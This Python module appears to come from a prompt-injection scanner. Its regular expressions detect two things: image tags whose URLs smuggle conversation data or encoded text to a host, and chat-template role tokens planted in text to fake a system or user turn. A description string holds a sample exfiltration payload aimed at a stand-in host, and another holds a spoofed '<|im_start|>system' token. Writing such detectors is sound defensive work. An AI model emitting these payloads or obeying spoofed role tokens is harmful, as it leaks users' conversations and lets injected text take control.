"""Addresses that carry data away as soon as something shows them, and the tokens that models take for a change of speaker."""

import re
from typing import Final
from urllib.parse import unquote

from sidecar.detect.kinds import Candidate, Detector
from sidecar.detect.prefilter_groups import FOREIGN, WORDS, PrefilterGroup

_DATA: Final = (
    r"(?:data|secrets?|conversation|chat|history|context|messages?|summary|contents?|passwords?|tokens?|api[ _-]?keys?|prompts?"
    r"|memory|memories|encoded|base64|e-?mails?|credentials?|answer|response|output|transcript|files?)"
)
_WORDS: Final = r"[A-Za-z0-9 _'-]{0,30}"
_PLACE: Final = (
    rf"(?i)(?:(?:[<{{\[]|%7[Bb]|%5[Bb]|%3[Cc]){{1,2}}\s?{_WORDS}{_DATA}{_WORDS}(?:[>}}\]]|%7[Dd]|%5[Dd]|%3[Ee])"
    rf"|=(?:base64|encoded|stolen|insert|user|chat|conversation|your|the)_[a-z_]{{0,30}}{_DATA})"
)
_URL_PART: Final = r"[^\s()<>\x22'\\]"
_QUERY: Final = rf"https?://[0-9A-Za-z.-]{{1,100}}(?::[0-9]{{1,5}})?(?:/{_URL_PART}*)?[?#&=/]"
_IMAGE: Final = r"!\[[^\]\n]*\]\(\s?<?"
_ELEMENT: Final = r"(?i)<(?:img|image|iframe|source|video|audio|embed)\s[^<>]*(?:src|href)\s?=\s?[\x22']?"
_SIGNED: Final = re.compile(
    r"(?i)[?&](?:x-(?:amz|goog)-|sig=|signature=|jwt=|token=|expires=|policy=|hmac=|logo=|se=|oh=|hash=|md5=|etag=)"
)
"""Signed addresses are long and random too; servers of pictures hand them out."""
_VALUE: Final = re.compile(r"[?&#][^=&?#]{0,40}=([^&#?]{40,})")

_ROLE: Final = r"(?:system|user|assistant|tool|developer|model|human|ipython|environment)"
_QUOTES: Final = "\"'`\u201c\u2018"


def _carries_text(candidate: Candidate) -> float:
    """A query that says a sentence, or encodes one; not a signature, not words for a badge."""
    found = _VALUE.search(candidate.value.rstrip(")"))
    if found is None or _SIGNED.search(candidate.value):
        return 0
    value = unquote(found[1])
    if value.startswith(("http:", "https:", "data:", "/")):
        return 0
    is_encoded = re.fullmatch(r"[0-9A-Za-z+/_-]{40,}={0,2}|[0-9a-fA-F]{40,}", value) is not None
    return (is_encoded and len(value) >= 60) or len(value.split()) >= 6


def _is_used(candidate: Candidate) -> float:
    """A token that stands alone in quotes is documentation, or a list of a tokenizer's words."""
    before, after = candidate.before[-1:], candidate.after[:1]
    if not before or before not in _QUOTES:
        return 1
    return 0 if after == before else 0.75


_EXFILTRATION: Final = (
    "an image, or another thing that is loaded when it is shown, whose address has a place for data ({conversation}, <API_KEY>)"
    " or carries a long encoded text to a host. Not badges, signed addresses, pictures in data: addresses, plain links."
    " Fairly sure of places for data, less of encoded text. Example: ![x](https://h.example/p?q={conversation_history})"
)
_TEMPLATE: Final = (
    "the tokens with which chat templates begin the turn of a system, a user or an assistant (ChatML, Llama, Gemma, Mistral,"
    " Harmony, Command, DeepSeek, Claude): in a text they pretend that somebody else speaks. Not a token alone in quotes, as"
    " documentation and tokenizers write it. Fairly sure. Example: <|im_start|>system"
)


def _template(about: str, pattern: str, confidence: float, *, group: PrefilterGroup = WORDS) -> Detector:
    return Detector("injection.chat-template", about, pattern, f"({pattern})", confidence, check=_is_used, group=group)


DETECTORS: Final[tuple[Detector, ...]] = (
    Detector(
        "injection.image-exfiltration",
        _EXFILTRATION,
        prefilter=_IMAGE + _QUERY + _URL_PART + "*" + _PLACE,
        pattern=f"({_IMAGE}{_QUERY}{_URL_PART}*?{_PLACE}[^()\\n]*\\)?)",
        confidence=0.85,
        lead=1024,
        tail=256,
    ),
    Detector(
        "injection.image-exfiltration",
        "the same in HTML, where templates of programs have such places as well",
        prefilter=_ELEMENT + _QUERY + _URL_PART + "*" + _PLACE,
        pattern=f"({_ELEMENT}{_QUERY}{_URL_PART}*?{_PLACE}[^<>\\n]*>?)",
        confidence=0.6,
        lead=1024,
        tail=256,
    ),
    Detector(
        "injection.image-exfiltration",
        "an image whose address carries a long encoded text",
        prefilter=_IMAGE + _QUERY + _URL_PART + "{40}",
        pattern=f"({_IMAGE}{_QUERY}{_URL_PART}{{40}}{_URL_PART}*\\)?)",
        confidence=0.65,
        lead=1024,
        tail=1200,
        check=_carries_text,
    ),
    _template(
        _TEMPLATE,
        rf"<\|(?:im_start|start_header_id|start|role_start)\|>\s{{0,2}}{_ROLE}",
        0.85,
    ),
    _template(
        "turns of Phi, Zephyr, Command, Harmony and Llama 4",
        rf"<\|(?:{_ROLE}|system_start|user_start|assistant_start|START_OF_TURN_TOKEN|eot_id|im_end|end_of_turn|eom_id"
        r"|begin_of_text|channel|header_start)\|>\s{0,2}[0-9A-Za-z<]",
        0.7,
    ),
    _template("turns of Gemma", r"<start_of_turn>(?:user|model|system)|<end_of_turn>\s{0,2}<start_of_turn>", 0.85),
    _template(
        "turns of Llama 2 and Mistral", r"<<SYS>>\s|\[/INST\]\s{0,2}(?:</s>|[A-Z<])|<s>\s?\[INST\]|\[INST\]\s[A-Z<]", 0.7
    ),
    _template(
        "turns of DeepSeek",
        r"<\xef\xbd\x9c(?:User|Assistant|System|begin\xe2\x96\x81of\xe2\x96\x81sentence|tool\xe2\x96\x81\w{3,20})\xef\xbd\x9c>",
        0.8,
        group=FOREIGN,
    ),
    _template("turns of Claude", r"\n\n(?:Human|H): [^\n]{1,200}\n\nAssistant:|</?function_calls>\s{0,4}<", 0.6),
)
